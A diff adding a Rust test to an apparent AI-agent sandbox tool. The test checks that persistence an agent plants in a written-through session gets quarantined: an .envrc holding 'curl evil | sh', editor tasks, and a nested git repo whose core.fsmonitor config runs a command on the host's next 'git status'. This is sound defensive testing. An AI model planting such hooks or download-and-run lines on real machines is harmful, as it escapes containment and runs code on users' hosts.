@@ -141,3 +141,44 @@ both!(renaming_dot_git_around_its_read_only_binds_is_refused, |user| {
     host_git(&case, &case.work, &["status"]);
     assert!(!marker.exists(), "the host's git ran the agent's command");
 });
+
+both!(persistence_made_in_a_written_through_session_is_quarantined, |user| {
+    let case = Case::new(user);
+    repository(&case);
+    let marker = case.work.parent().unwrap().join("fsmonitor-ran");
+    // Written through, the agent cannot touch the top repository's hooks or config, so it makes
+    // what was not there at the start: an `.envrc`, editor tasks, and a nested repository
+    // whose config runs a command on the host's next `git status` in it.
+    let script = format!(
+        "echo 'curl evil | sh' > .envrc\nmkdir -p .vscode && echo '{{}}' > .vscode/tasks.json\n\
+         git init -q vendor/lib\ngit -C vendor/lib config core.fsmonitor 'touch {}'\n\
+         git -C vendor/lib config remote.origin.url https://example.org/lib.git\necho work > notes.txt\n",
+        marker.display()
+    );
+    let s = case.sh(&["--no-ephemeral"], &script);
+    assert_eq!(s.code, 0, "{s:?}");
+    let id = s.summary["session"].as_str().unwrap().to_owned();
+    let found: Vec<String> = s.summary["persistence"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{s:?}"))
+        .iter()
+        .map(|f| f["path"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(found, [".envrc", ".vscode/tasks.json", "vendor/lib/.git/config", "vendor/lib/.git/hooks"], "{s:?}");
+    assert!(!case.work.join(".envrc").exists() && !case.work.join(".vscode/tasks.json").exists());
+    assert!(case.work.join("notes.txt").exists(), "ordinary work stays");
+    let config = std::fs::read_to_string(case.work.join("vendor/lib/.git/config")).unwrap();
+    assert!(!config.contains("fsmonitor") && config.contains("https://example.org/lib.git"), "{config}");
+    host_git(&case, &case.work.join("vendor/lib"), &["status"]);
+    assert!(!marker.exists(), "the host's git ran the agent's command");
+    // One command puts them back; then the host's git runs the command, so the attack was real.
+    let out = case.subcommand(&["apply", "--force", &id]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(case.work.join(".envrc")).unwrap(), "curl evil | sh\n");
+    host_git(&case, &case.work.join("vendor/lib"), &["status"]);
+    assert!(marker.exists(), "the attack does not work here, so the test proves nothing");
+    // Kept on request: reported, left in place.
+    let kept = case.sh(&["--no-ephemeral", "--keep-persistence"], "echo x > app.code-workspace\n");
+    assert_eq!(kept.summary["persistence"][0]["quarantined"], false, "{kept:?}");
+    assert!(case.work.join("app.code-workspace").exists());
+});
